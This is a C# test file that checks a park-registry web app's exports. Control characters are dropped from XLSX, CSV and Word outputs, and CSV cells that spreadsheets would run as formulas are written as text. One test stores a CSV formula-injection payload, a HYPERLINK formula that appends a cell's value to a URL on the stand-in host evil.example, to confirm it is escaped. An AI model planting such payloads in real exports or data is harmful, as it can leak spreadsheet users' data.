using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using CircularPark.Identity;
using CircularPark.Web.Tests.Parks;
using CircularPark.Web.Tests.Reports;
using DocumentFormat.OpenXml.Packaging;
using Microsoft.EntityFrameworkCore;

namespace CircularPark.Web.Tests.Inputs;

/// <summary>
/// Issue 12 findings 7 and 8 at the exports: text stored before the input rules (a park name with U+0001, a plan chapter
/// with a control character) no longer breaks the public park export, the published-list docx, the province summary or
/// the plan's Word file; and a CSV cell that a spreadsheet would run as a formula is written as text.
/// </summary>
public class ExportSafetyTests(Apps apps) : IClassFixture<Apps>
{
    private const string Yinghong = "英德市英红工业园";

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task Control_characters_stored_before_the_rules_are_left_out_of_every_export(Provider provider)
    {
        var app = await apps.For(provider);
        var (parkId, parkClient) = await ReportDriver.ParkWithPlanAsync(app, Yinghong);
        var plan = await app.WithDbAsync(db => db.Plans.Where(p => p.ParkId == parkId).Select(p => p.Id).FirstAsync());
        await app.WithDbAsync(async db =>
        {
            await db.Parks.Where(p => p.Id == parkId).ExecuteUpdateAsync(s => s.SetProperty(p => p.Name, "英德市\u0001英红工业园"));
            return await db.PlanVersions.Where(v => v.PlanId == plan).ExecuteUpdateAsync(s => s.SetProperty(v => v.BasicSituation, "园区\u0008概况\u001F"));
        });
        var anonymous = app.CreateClient();
        var province = await app.ClientAsAsync(Roles.Province, "440000");

        var xlsx = await OkBytesAsync(anonymous, "/api/parks/export?region=441800");
        var csv = await OkBytesAsync(anonymous, "/api/parks/export?region=441800&format=csv");
        var list = await OkBytesAsync(anonymous, "/api/campaigns/gd-2020-923/published-list.docx");
        var summary = await OkBytesAsync(province, "/api/campaigns/gd-2020-923/province-summary/440000/2022?format=docx");
        var planDocx = await OkBytesAsync(parkClient, $"/api/plans/{plan}/export.docx");

        using (var book = SpreadsheetDocument.Open(new MemoryStream(xlsx), false))
            Assert.Contains("英德市英红工业园", book.WorkbookPart!.WorksheetParts.Single().Worksheet.InnerText, StringComparison.Ordinal);
        Assert.Contains("英德市英红工业园", Encoding.UTF8.GetString(csv), StringComparison.Ordinal);
        Assert.Contains("英德市英红工业园", DocxText(list), StringComparison.Ordinal);
        Assert.Contains("英德市英红工业园", DocxText(summary), StringComparison.Ordinal);
        Assert.Contains("园区概况", DocxText(planDocx), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task A_park_name_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text(Provider provider)
    {
        var app = await apps.For(provider);
        var id = await ParksApiTests.ParkIdAsync(app, "广东连州市产业转移工业园区（清远民族工业园）");
        var admin = await app.ClientAsAsync(Roles.Admin);
        var park = await admin.GetFromJsonAsync<JsonElement>($"/api/parks/{id}");
        const string hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")";

        var saved = await admin.PutAsJsonAsync($"/api/parks/{id}", new { name = hostile, level = "Provincial", kind = "Other", version = park.GetProperty("version").GetInt64() });
        var csv = Encoding.UTF8.GetString(await OkBytesAsync(app.CreateClient(), "/api/parks/export?region=441800&format=csv"));

        Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
        var line = csv.Split("\r\n").Single(l => l.Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击查看\"\")\"", line.Split(',')[1] + "," + line.Split(',')[2]);
    }

    private static async Task<byte[]> OkBytesAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {(int)response.StatusCode}");
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static string DocxText(byte[] docx)
    {
        using var document = WordprocessingDocument.Open(new MemoryStream(docx), false);
        return document.MainDocumentPart!.Document.Body!.InnerText;
    }
}
